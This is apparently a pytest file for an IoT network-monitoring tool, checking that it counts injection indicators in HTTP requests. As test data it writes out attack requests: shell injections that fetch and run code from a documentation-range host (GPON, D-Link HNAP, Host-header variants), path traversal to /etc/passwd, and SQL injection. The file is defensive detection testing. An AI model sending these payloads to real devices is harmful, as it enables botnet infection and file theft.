"""Injection indicators of HTTP requests (``http_indicators``): the one look the flow meter takes into payloads.

Counted in a request's target (percent-decoded), in the headers the protocol defines as a URI (SOAPAction,
Host) and in a text body; never in other headers (browsers' User-Agent and Cookie headers are full of
semicolons and parentheses), never in responses or non-HTTP payloads."""

from __future__ import annotations

import pytest
from flows_testkit import CLIENT, SERVER, run
from scapy.all import IP, TCP, Ether

from iotguard.core.schema import HTTP_COLUMN


def _request(raw: bytes, sport: int = 40000, dport: int = 80, src: str = CLIENT, dst: str = SERVER):
    return Ether() / IP(src=src, dst=dst) / TCP(sport=sport, dport=dport, flags="PA") / raw


def _indicators(*payloads: bytes) -> list[int]:
    """One flow per payload (each its own connection): the flow's indicator count."""
    packets = [_request(p, sport=40000 + i) for i, p in enumerate(payloads)]
    df = run(packets, [i * 1000 for i in range(len(packets))])
    return [int(v) for v in df.sort_values("src_port")[HTTP_COLUMN]]


BROWSER = (
    b"GET /news/index.html?page=2&lang=en HTTP/1.1\r\nHost: example.org\r\n"
    b"User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\n"
    b'Cookie: session=abc; theme="dark"; consent=1\r\nAccept: */*\r\n\r\n'
)


def test_ordinary_requests_carry_none():
    json_post = b'POST /api/v1/state HTTP/1.1\r\nHost: hub\r\nContent-Type: application/json\r\n\r\n{"on": true, "name": "lamp <kitchen>"}'
    form = b"POST /login HTTP/1.1\r\nHost: cam\r\n\r\nuser=admin&password=s3cret%21"
    assert _indicators(BROWSER, json_post, form) == [0, 0, 0]


def test_command_injection_traversal_and_sql_in_the_target_count():
    shell = b"GET /shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.9/x;sh+/tmp/x HTTP/1.1\r\nHost: dvr\r\n\r\n"
    traversal = b"GET /cgi-bin/../../../../etc/passwd HTTP/1.1\r\nHost: cam\r\n\r\n"
    encoded = b"GET /page.php?file=%2e%2e%2f%2e%2e%2fetc%2fpasswd HTTP/1.1\r\nHost: cam\r\n\r\n"
    sql = b"GET /item?id=1%27%20OR%20%271%27%3D%271 HTTP/1.1\r\nHost: shop\r\n\r\n"
    assert _indicators(shell, traversal, encoded, sql) == [3, 4, 2, 4]


def test_shell_syntax_in_a_text_body_counts_markup_does_not_and_binary_bodies_are_skipped():
    gpon = b"POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: ont\r\n\r\ndest_host=`busybox+wget+http://x/g+-O+/tmp/g;sh+/tmp/g`&ipv=0"
    soap = b'POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nHost: gw\r\n\r\n<?xml version="1.0"?><u:Upgrade><NewStatusURL>$(/bin/busybox wget -g x)</NewStatusURL></u:Upgrade>'
    upload = b"POST /upload HTTP/1.1\r\nHost: drop\r\n\r\n" + bytes(range(256)) * 2
    assert _indicators(gpon, soap, upload) == [3, 1, 0]


def test_a_command_in_a_soapaction_header_counts_a_real_operation_does_not():
    """The D-Link HNAP exploit family (CVE-2015-2051, spread by Mirai variants) carries its command in the
    SOAPAction header, a URI by definition; real SOAP and UPnP actions carry none, and the quotes enclosing the
    URI are its syntax."""
    hnap = (
        b"POST /HNAP1/ HTTP/1.1\r\nHost: 192.168.0.1\r\nUser-Agent: Mozilla/5.0 (X11; Linux)\r\n"
        b'SOAPAction: "http://purenetworks.com/HNAP1/`cd /tmp && rm -rf * && wget http://203.0.113.9/d && sh d`"\r\n'
        b"Content-Length: 0\r\n\r\n"
    )
    real_hnap = (
        b"POST /HNAP1/ HTTP/1.1\r\nHost: 192.168.0.1\r\nContent-Type: text/xml; charset=utf-8\r\n"
        b'SOAPAction: "http://purenetworks.com/HNAP1/GetDeviceSettings"\r\n\r\n<?xml version="1.0"?><soap:Envelope/>'
    )
    upnp = (
        b"POST /upnp/control/WANIPConn1 HTTP/1.1\r\nHOST: 192.168.1.1:49152\r\n"
        b'CONTENT-TYPE: text/xml; charset="utf-8"\r\n'
        b'SOAPACTION: "urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping"\r\n\r\n'
    )
    empty = b'POST /ws HTTP/1.1\r\nHost: [2001:db8::1]:8080\r\nSOAPAction: ""\r\n\r\n'
    assert _indicators(hnap, real_hnap, upnp, empty) == [2, 0, 0, 0]  # the two backquotes


def test_a_host_header_admits_no_indicator_other_headers_are_not_read():
    host = b"GET / HTTP/1.1\r\nHost: cam;wget${IFS}http://203.0.113.9/x\r\n\r\n"
    referer = b"GET / HTTP/1.1\r\nHost: cam\r\nReferer: http://a/b?q=1;2;3\r\nX-Api: `id`;$(id)\r\n\r\n"
    assert _indicators(host, referer) == [4, 0]  # ; $ { }


def test_bare_line_feeds_end_headers_too():
    lf = b"POST /cgi HTTP/1.0\nHost: x\nSOAPAction: `reboot`\n\ncmd=`id`;ls"
    assert _indicators(lf) == [2 + 3]


@pytest.mark.parametrize(
    "payload",
    [
        b"HTTP/1.1 200 OK\r\nSet-Cookie: a=1; b=2\r\n\r\n`;|`",  # a response, not a request
        b"get /a;b;c HTTP/1.1\r\n\r\n",  # methods are upper case
        b"SSH-2.0-OpenSSH_9.6 ;;;;",
        b"GETX /;;; HTTP/1.1\r\n\r\n",
    ],
)
def test_only_requests_are_inspected(payload):
    assert _indicators(payload) == [0]


def test_a_flow_keeps_its_worst_request_and_early_records_see_it():
    packets = [_request(BROWSER), _request(b"GET /a;b;c HTTP/1.1\r\nHost: x\r\n\r\n"), _request(BROWSER)]
    packets += [_request(b"x" * 10) for _ in range(8)]
    df = run(packets, [i * 1000 for i in range(len(packets))], early_packets=5)
    assert [bool(p) for p in df["partial"]] == [True, False]
    assert df[HTTP_COLUMN].tolist() == [2, 2]


def test_real_benign_http_captures_carry_none_and_dvwa_attacks_do(data_file):
    from iotguard.flows import read_flows

    for benign in (
        "pcaps/zeek/http_bro.org.pcap",
        "pcaps/markofu_pcaps/http.cap",
        "pcaps/chrissanders_packets/http_dvwa_clearlogin.pcapng",
        "pcaps/chrissanders_packets/http_google.pcapng",
        "pcaps/chrissanders_packets/tcp_ports.pcapng",
    ):
        assert read_flows(data_file(benign))[HTTP_COLUMN].max() == 0, benign
    traversal = read_flows(data_file("pcaps/chrissanders_packets/http_dvwa_directorytraversal.pcapng"))
    assert traversal[HTTP_COLUMN].max() >= 2
    sqli = read_flows(data_file("pcaps/chrissanders_packets/http_dvwa_sqlinjection.pcapng"))
    assert sqli[HTTP_COLUMN].max() >= 2
